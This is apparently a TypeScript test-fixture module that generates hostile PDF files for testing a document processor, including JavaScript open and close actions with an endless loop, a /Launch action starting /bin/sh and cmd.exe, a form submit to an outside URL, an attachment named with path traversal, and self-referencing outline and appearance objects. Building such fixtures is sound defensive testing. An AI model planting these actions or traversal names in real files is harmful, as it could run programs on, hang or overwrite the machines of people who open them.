import { onePage, rawPdf, stream } from '../raw-pdf.js';
import { printedPdf } from '../printed-pdf.js';
import { CLAUSE, show } from './hostile-file.js';

/** A contract of some pages, as the good part of a bad file. */
export const contract = (pages: number, options: PDFKit.PDFDocumentOptions = {}): Promise<Buffer> =>
  printedPdf((document) => {
    for (let page = 1; page <= pages; page += 1) {
      if (page > 1) document.addPage();
      document.fontSize(11).text(`Page ${page} of the agreement.`);
      for (let clause = 1; clause <= 20; clause += 1) document.text(`${clause}. ${CLAUSE}`);
    }
  }, options);

/** A file that wants to run programs when it is opened, closed, printed, shown and clicked. */
export function actions(): Buffer {
  const script =
    '<< /S /JavaScript /JS (app.alert\\(1\\); this.exportDataObject\\({ cName: "x", nLaunch: 2 }\\); while \\(true\\) {}) >>';
  const launch = '<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >>';
  return rawPdf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} /AA << /WC ${script} /WP ${launch} >> /Names << /JavaScript << /Names [(start) ${script}] >> >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /AA << /O ${script} /C ${launch} >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /SubmitForm /F << /FS /URL /F (http://x.example) >> >> >>] >>`,
    stream('', show(CLAUSE)),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ]);
}

/** A contract with another file inside it. */
export const attachment = (): Promise<Buffer> =>
  printedPdf((document) => {
    document.file(Buffer.from('MZ This is not part of the contract.'), { name: '../../setup.exe' });
    document.text(CLAUSE);
  });

/** An outline that goes round in a circle. */
export const endlessOutline = (): Buffer =>
  rawPdf([
    '<< /Type /Catalog /Pages 2 0 R /Outlines 6 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    stream('', show(CLAUSE)),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    '<< /Type /Outlines /First 6 0 R /Last 6 0 R /Next 6 0 R /Parent 6 0 R /Title (x) >>',
  ]);

/** A form with many entries, which are printed onto the page. */
export const manyEntries = (count: number): Buffer =>
  onePage(show(CLAUSE), {
    page: `/Annots [${Array.from({ length: count }, (_, index) => `<< /Type /Annot /Subtype /Widget /FT /Tx /T (f${index}) /V (x) /Rect [0 0 9 9] >>`).join(' ')}]`,
  });

/** A note whose look is drawn by itself. */
export const noteInItself = (): Buffer =>
  onePage(show(CLAUSE), {
    page: '/Annots [6 0 R]',
    more: [
      '<< /Type /Annot /Subtype /Stamp /Rect [0 0 99 99] /Parent 6 0 R /Popup 6 0 R /AP << /N 7 0 R >> >>',
      stream('/Type /XObject /Subtype /Form /BBox [0 0 99 99] /Resources << /XObject << /X 7 0 R >> >>', '/X Do'),
    ],
  });
